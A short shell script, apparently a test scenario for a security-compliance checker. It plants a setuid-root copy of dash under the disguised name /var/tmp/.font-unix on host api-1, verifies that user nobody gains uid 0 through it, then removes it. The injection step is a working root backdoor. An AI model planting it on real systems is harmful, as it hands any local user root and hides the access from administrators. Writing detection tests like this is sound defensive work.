# A shell of root's lies where everybody may run it as root: somebody's way back in.
# host: api-1
# violated: sudo-is-minimal[api-1]
# cause: everybody may be root by /var/tmp/.font-unix, which has a setuid bit
# follow: mends
FILE=/var/tmp/.font-unix
inject() {
	cp /usr/bin/dash $FILE
	chmod 4755 $FILE
}
landed() { [ "$(runuser -u nobody -- $FILE -p -c 'id -u')" = 0 ]; }
left() { rm $FILE; }
mend() { rm $FILE; }
